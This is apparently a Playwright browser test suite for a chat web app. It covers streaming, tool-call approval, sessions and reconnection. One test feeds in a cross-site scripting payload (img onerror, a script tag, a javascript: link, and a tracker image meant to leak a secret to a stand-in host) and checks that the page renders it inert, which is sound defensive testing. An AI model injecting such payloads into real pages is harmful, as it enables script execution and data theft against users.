"""The web chat page in headless Chromium, against a real server and the demo model.

The page is found only by the names that issue 14 fixes (labels, roles, button
names); each test saves a screenshot of each state under tests/browser/screenshots/.
"""

from __future__ import annotations

import dataclasses
import re
from typing import TYPE_CHECKING

import httpx
import pytest

from tests.browser.conftest import Browsing
from tests.e2e.server import QuartetServer

if TYPE_CHECKING:
    from playwright.async_api import Page

expect = pytest.importorskip(
    "playwright.async_api", reason="NO PLAYWRIGHT: pip install -e '.[test]'"
).expect

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def start_chat(browsing: Browsing, page: Page | None = None) -> Page:
    """Open the page, give the key, start a new session; returns the page, connected."""
    page = page or await browsing.new_page()
    await page.goto(browsing.server.base_url + "/")
    await page.get_by_label("API key").fill(browsing.server.api_key)
    await page.get_by_role("button", name="Connect").click()
    await (
        page.get_by_role("navigation", name="Sessions")
        .get_by_role("button", name="New session")
        .click()
    )
    await expect(page.get_by_role("status")).to_have_text("Connected")
    await expect(page).to_have_url(re.compile(r"\?session="))
    return page


async def send(page: Page, text: str) -> None:
    await page.get_by_role("textbox", name="Message").fill(text)
    await page.get_by_role("button", name="Send").click()


async def test_a_streamed_answer_is_rendered_as_markdown(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    await browsing.shot(page, "1-connected")
    log = page.get_by_role("log")
    await send(page, "[[slow:60]] Some **bold** words and `code` to stream one by one here")
    # While the turn runs, the answer is already there in part.
    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
    await expect(log).to_contain_text("You said:")
    await browsing.shot(page, "2-streaming")
    await expect(log).to_contain_text("to stream one by one here")
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await expect(log.locator("strong", has_text="bold")).to_be_visible()
    await expect(log.locator("code", has_text="code")).to_be_visible()
    await browsing.shot(page, "3-answered")


async def test_enter_sends_and_shift_enter_adds_a_line(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    box = page.get_by_role("textbox", name="Message")
    await box.fill("first line")
    await box.press("Shift+Enter")
    await box.press_sequentially("second line")
    await expect(box).to_have_value("first line\nsecond line")
    await box.press("Enter")
    await expect(box).to_have_value("")
    await expect(page.get_by_role("log")).to_contain_text("You said: first line second line")


async def test_html_in_user_and_model_text_is_shown_as_text_and_never_runs(
    browsing: Browsing,
) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    attack = (
        '<img src=x onerror="window.pwned=1;alert(1)"> '
        "<script>window.pwned=2;alert(2)</script> "
        "![tracker](http://tracker.invalid/pixel.png?leak=secret) "
        "[click me](javascript:window.pwned=3) done"
    )
    await send(page, attack)
    await expect(log).to_contain_text("done", timeout=10_000)
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    # Both the user's bubble and the model's echo show the markup as text.
    await expect(log.get_by_text('<img src=x onerror="window.pwned=1;alert(1)">')).to_have_count(2)
    await expect(log.get_by_text("<script>window.pwned=2;alert(2)</script>")).to_have_count(2)
    await expect(log.locator("img, script, iframe")).to_have_count(0)
    hrefs = await log.locator("a").evaluate_all("links => links.map(a => a.href)")
    assert not [href for href in hrefs if href.lower().startswith("javascript:")], hrefs
    assert await page.evaluate("window.pwned") is None
    assert browsing.watch.dialogs == []
    assert browsing.watch.remote_requests == []
    await browsing.shot(page, "injection-shown-as-text")


async def test_approving_and_denying_a_confirmation(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, 'Save it [[tool:save_note {"text":"x"}]]')
    approve = page.get_by_role("button", name="Approve")
    await expect(approve).to_be_visible()
    await expect(log).to_contain_text("save_note")
    await expect(log).to_contain_text(re.compile(r"\d+ s left"))
    await browsing.shot(page, "1-confirmation-asked")
    await approve.click()
    await expect(log).to_contain_text("Approved")
    await expect(log).to_contain_text("You said: Save it The save_note tool said:")
    await expect(approve).to_have_count(0)
    await browsing.shot(page, "2-approved")

    await send(page, 'Again [[tool:save_note {"text":"y"}]]')
    deny = page.get_by_role("button", name="Deny")
    await expect(deny).to_be_visible()
    await deny.click()
    await expect(log).to_contain_text("Denied")
    await expect(log).to_contain_text("You said: Again The save_note tool said: Not run")
    await expect(deny).to_have_count(0)
    await browsing.shot(page, "3-denied")


async def test_answering_a_question(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, "Greet me [[ask:Name?]]")
    answer = page.get_by_role("textbox", name="Answer")
    await expect(answer).to_be_visible()
    await expect(log).to_contain_text("Name?")
    await expect(answer).to_be_focused()
    await browsing.shot(page, "1-asked")
    await answer.fill("Ada")
    await page.get_by_role("button", name="Reply").click()
    await expect(log).to_contain_text("You said: Greet me You answered: Ada")
    await expect(log).to_contain_text("Answered: Ada")
    await expect(answer).to_have_count(0)
    await browsing.shot(page, "2-answered")


async def test_stop_then_a_new_message(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, "[[slow:200]] one two three four five six seven eight nine ten")
    stop = page.get_by_role("button", name="Stop")
    await expect(log).to_contain_text("You said:")
    await browsing.shot(page, "1-running")
    await stop.click()
    await expect(log).to_contain_text("Stopped")
    await expect(stop).to_be_hidden()
    await expect(log).not_to_contain_text(
        "You said: one two three four five six seven eight nine ten"
    )
    await browsing.shot(page, "2-stopped")
    await send(page, "after the stop")
    await expect(log).to_contain_text("You said: after the stop")
    await expect(stop).to_be_hidden()
    await browsing.shot(page, "3-next-answer")


async def test_busy_shows_a_notice_and_the_composer_works_after(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, "[[slow:100]] a b c d e f g")
    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
    await send(page, "too soon")
    await expect(log).to_contain_text("Busy")
    await expect(log).to_contain_text("You said: a b c d e f g")
    await send(page, "now then")
    await expect(log).to_contain_text("You said: now then")


async def test_a_team(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    await send(page, "[[team:researcher,critic]] SQLite or Postgres?")
    team = page.get_by_role("region", name="Team")
    await expect(team).to_be_visible()
    await expect(team).to_contain_text("researcher")
    await expect(team).to_contain_text("critic")
    await expect(team).to_contain_text("Team dissolved: done")
    await expect(team).to_contain_text("Synthesis")
    await expect(team).not_to_contain_text("(pending)")
    await expect(team).not_to_contain_text("(running)")
    await expect(team).to_contain_text("(done)")
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await browsing.shot(page, "team-done")


async def test_two_tabs_stay_in_step(browsing: Browsing) -> None:
    first = await start_chat(browsing)
    second = await browsing.new_page()
    # The key is remembered and the session is in the URL: the second tab connects itself.
    await second.goto(first.url)
    await expect(second.get_by_role("status")).to_have_text("Connected")
    await send(first, 'From the first tab [[tool:save_note {"text":"z"}]]')
    # The second tab sees the request and answers it; the first sees the outcome.
    await second.get_by_role("button", name="Approve").click()
    for page in (first, second):
        log = page.get_by_role("log")
        await expect(log).to_contain_text("Approved")
        await expect(log).to_contain_text("You said: From the first tab The save_note tool said:")
        await expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    await expect(second.get_by_role("log")).to_contain_text(
        'From the first tab [[tool:save_note {"text":"z"}]]'
    )
    await browsing.shot(first, "first-tab")
    await browsing.shot(second, "second-tab")


async def test_a_reload_shows_the_history_once(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, "Remember this")
    await expect(log.get_by_text("You said: Remember this")).to_have_count(1)
    # Reload in the middle of a streamed answer: it comes back whole, once.
    await send(page, "[[slow:100]] keep going while the page reloads itself")
    await expect(log).to_contain_text("You said:")
    await page.reload()
    await expect(page.get_by_role("status")).to_have_text("Connected")
    await expect(log.get_by_text("You said: Remember this")).to_have_count(1)
    await expect(log.get_by_text("Remember this", exact=True)).to_have_count(1)
    await expect(
        log.get_by_text("You said: keep going while the page reloads itself")
    ).to_have_count(1)
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await browsing.shot(page, "after-reload")


async def test_sessions_can_be_opened_and_deleted(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    first_url = page.url
    await send(page, "in the first session")
    await expect(page.get_by_role("log")).to_contain_text("You said: in the first session")
    nav = page.get_by_role("navigation", name="Sessions")
    await nav.get_by_role("button", name="New session").click()
    await expect(page).not_to_have_url(first_url)
    await expect(page.get_by_role("log")).not_to_contain_text("in the first session")
    second_url = page.url
    await page.go_back()
    await expect(page).to_have_url(first_url)
    await expect(page.get_by_role("log")).to_contain_text("You said: in the first session")
    await page.goto(second_url)
    await expect(page.get_by_role("status")).to_have_text("Connected")
    delete = nav.get_by_role("button", name=re.compile("^Delete"))
    count = await delete.count()
    assert count >= 2
    title = await page.get_by_role("heading", level=2).last.text_content()
    await nav.get_by_role("button", name=f"Delete {title}").click()
    await expect(delete).to_have_count(count - 1)
    await expect(page.get_by_role("status")).to_have_text("No session open")
    await expect(page).not_to_have_url(re.compile("session="))
    await browsing.shot(page, "session-deleted")


@pytest.mark.parametrize("browsing", [{"width": 375, "height": 740}], indirect=True)
async def test_a_375_px_viewport_has_no_horizontal_scroll(browsing: Browsing) -> None:
    page = await start_chat(browsing)
    await send(
        page,
        "A long unbroken word "
        + "x" * 200
        + " and code `"
        + "y" * 150
        + '` [[tool:save_note {"text":"a fairly long note to show in the card"}]]',
    )
    await expect(page.get_by_role("button", name="Approve")).to_be_visible()
    await page.get_by_role("button", name="Approve").click()
    await expect(page.get_by_role("log")).to_contain_text("The save_note tool said:")
    for control in ("Message", "API key"):
        await expect(page.get_by_label(control)).to_be_visible()
    await expect(page.get_by_role("button", name="Send")).to_be_visible()
    overflow = await page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )
    assert overflow <= 0
    await browsing.shot(page, "narrow")


async def test_a_dropped_socket_reconnects_without_losing_or_doubling_text(
    browsing: Browsing,
) -> None:
    page = await browsing.new_page()
    sockets = []

    def through(route) -> None:
        # Playwright stands between the page and the server, so the test can cut the line.
        route.connect_to_server()
        sockets.append(route)

    await page.route_web_socket(re.compile(r"/api/v1/chat/ws/"), through)
    await start_chat(browsing, page)
    log = page.get_by_role("log")
    await send(page, "[[slow:100]] one two three four five six seven eight nine ten")
    await expect(log).to_contain_text("You said: one two")
    await sockets[-1].close(code=4000, reason="cut by the test")
    await expect(page.get_by_role("status")).to_contain_text("reconnecting")
    await browsing.shot(page, "1-dropped")
    await expect(page.get_by_role("status")).to_have_text("Connected")
    answer = "You said: one two three four five six seven eight nine ten"
    await expect(log.get_by_text(answer, exact=True)).to_have_count(1)
    assert len(sockets) == 2
    assert re.search(r"last_seq=[1-9]", sockets[-1].url), sockets[-1].url
    await browsing.shot(page, "2-resumed")


async def test_a_matched_skill_shows_as_a_badge(browsing: Browsing) -> None:
    response = httpx.put(
        f"{browsing.server.base_url}/api/v1/skills/trip",
        headers={"X-API-Key": browsing.server.api_key},
        json={"keywords": ["Paris"], "description": "Trips"},
    )
    assert response.status_code in (200, 201), response.text
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, "Plan a trip to Paris")
    await expect(log).to_contain_text("You said: Plan a trip to Paris")
    await expect(log.get_by_text(re.compile(r"^Skill trip · \d\.\d\d$"))).to_be_visible()
    await browsing.shot(page, "skill-badge")


async def test_cancelled_and_timed_out_requests_show_their_outcome(
    browsing: Browsing, hasty_server: QuartetServer
) -> None:
    page = await start_chat(browsing)
    log = page.get_by_role("log")
    await send(page, 'Save [[tool:save_note {"text":"c"}]]')
    await expect(page.get_by_role("button", name="Approve")).to_be_visible()
    await page.get_by_role("button", name="Stop").click()
    await expect(log).to_contain_text("Cancelled: not run")
    await expect(log).to_contain_text("Stopped")
    await expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    await browsing.shot(page, "1-cancelled")

    hasty = dataclasses.replace(browsing, server=hasty_server)
    page = await start_chat(hasty, await hasty.new_page())
    log = page.get_by_role("log")
    await send(page, 'Late [[tool:save_note {"text":"t"}]] [[ask:Anyone?]]')
    await expect(log).to_contain_text("Timed out: not run")
    await expect(log).to_contain_text("Anyone?")
    await expect(log).to_contain_text("Not answered")
    await expect(log).to_contain_text("You said: Late")
    await expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    await expect(page.get_by_role("textbox", name="Answer")).to_have_count(0)
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    await browsing.shot(page, "2-timed-out")
